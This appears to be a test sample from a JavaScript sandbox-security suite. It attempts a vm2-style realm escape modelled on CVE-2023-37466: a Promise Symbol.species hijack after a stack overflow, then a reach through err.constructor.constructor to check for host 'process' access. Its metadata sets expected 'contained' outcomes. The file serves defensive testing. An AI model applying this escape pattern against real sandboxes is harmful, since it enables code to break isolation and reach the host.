/*---
id: re-promise-species-01-plain
description: "The CVE-2023-37466 shape, an async function that overflows the stack, whose promise gets a constructor with a Symbol.species executor, so then() hands the rejection to attacker code."
kind: malicious
category: realm-escape
technique: RE-promise-species
variant: plain
references:
  - "CVE-2023-37466"
  - "CVE-2026-24120"
  - "CVE-2026-47208"
  - "CVE-2026-93606"
  - "CVE-2026-92944"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
async function overflow() { (function stack() { stack(); })(); }
const p = overflow();
let verdict = 'held';
const settled = new Promise((done) => {
  p.constructor = {
    [Symbol.species]: class FakePromise {
      constructor(executor) {
        executor(() => done(), (err) => {
          try { if (err.constructor.constructor('return typeof process')() !== 'undefined') verdict = 'ESCAPED'; } catch (e) {}
          done();
        });
      }
    },
  };
  p.then();
});
await settled;
return verdict;
